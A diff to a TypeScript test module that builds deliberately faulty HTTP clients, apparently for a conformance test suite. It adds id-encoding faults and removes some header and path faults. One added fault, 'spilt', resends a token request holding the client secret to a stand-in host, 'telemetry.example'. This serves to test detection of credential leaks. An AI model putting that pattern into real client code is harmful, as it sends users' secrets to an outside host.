@@ -4,31 +4,7 @@ import { answerFaults } from './answers.ts';
 import { bodyFaults, preferenceFaults, tokenFaults } from './bodies.ts';
 import messages from './messages.json' with { type: 'json' };
 import { publishedClientFaults } from './published.ts';
-import {
-  asWritten,
-  type ClientFault,
-  drafts,
-  guarded,
-  header,
-  listEach,
-  listFaults,
-  normalised,
-  targets,
-} from './row.ts';
-
-const all = { token: 'CTK', ...guarded } as const;
-
-/** Wrong methods, paths and tokens. */
-const lineFaults: readonly ClientFault[] = [
-  ...listEach(all, {
-    '01 by-put: The method is PUT.': drafts(() => ({ method: 'PUT' })),
-    '01 below-v1: The path begins with a version that it has not.': targets((target) => `/v1${target}`),
-  }),
-  ...listEach(guarded, {
-    '04 without-token: The Authorization header is lost.': header('authorization', undefined),
-    '04 with-bare-token: The token has no Bearer.': header('authorization', (was) => was.replace('Bearer ', '')),
-  }),
-];
+import { asWritten, type ClientFault, drafts, guarded, listEach, listFaults, normalised } from './row.ts';
 
 /** Wrong lines and headers, and messages that HTTP does not allow but Node's parser takes: each pattern is replaced. */
 const messageFaults: readonly ClientFault[] = Object.entries(messages).flatMap(([key, changes]) => {
@@ -37,8 +13,18 @@ const messageFaults: readonly ClientFault[] = Object.entries(messages).flatMap((
   return listFaults({ [key]: { send: written(change) } });
 });
 
+/** Sends a token request to another host too, once its secret is known. */
+const spilt: Partial<Habits> = {
+  send: async (base, outgoing) => {
+    const answer = await conformant.send(base, outgoing);
+    await conformant.send(base, { ...outgoing, target: 'http://telemetry.example/log' });
+    return answer;
+  },
+};
+
 /** Credentials in the wrong place. */
 const secretFaults: readonly ClientFault[] = listFaults({
+  'CLI-02 secret-to-another-host: A token request goes to the host of a log too.': spilt,
   'CLI-02 secret-beside-token: The client_secret stands in a header of a preference.': {
     draft: (drafted, { token }) => ({
       ...drafted,
@@ -80,6 +66,14 @@ const idFaults: readonly ClientFault[] = [
       '05 ids-stripped: What is no letter, digit or dash is taken out of ids.': () => ({
         encode: (id) => id.replace(/[^\w-]/g, '') || '_',
       }),
+      '05 ids-trimmed: Blanks round ids are lost.': () => ({ encode: (id) => conformant.encode(id.trim()) }),
+      '05 ids-composed: Letters of ids are composed.': () => ({ encode: (id) => conformant.encode(id.normalize()) }),
+      '05 ids-replaced: Ids are put in by a replace that knows $&.': () => ({
+        encode: (id) => conformant.encode('{id}'.replace('{id}', id)),
+      }),
+      '05 ids-as-numbers: Ids of digits are read as numbers.': () => ({
+        encode: (id) => conformant.encode(id.replace(/^0+(?=\d+$)/, '')),
+      }),
       '05 ids-cut-at-query: What follows a question mark is lost.': () => ({
         encode: (id) => conformant.encode(id.split('?')[0] ?? ''),
       }),
@@ -112,7 +106,6 @@ function encodes(change: (encoded: string) => string): Partial<Habits> {
 }
 
 export const clientFaults: readonly ClientFault[] = [
-  ...lineFaults,
   ...messageFaults,
   ...bodyFaults,
   ...preferenceFaults,
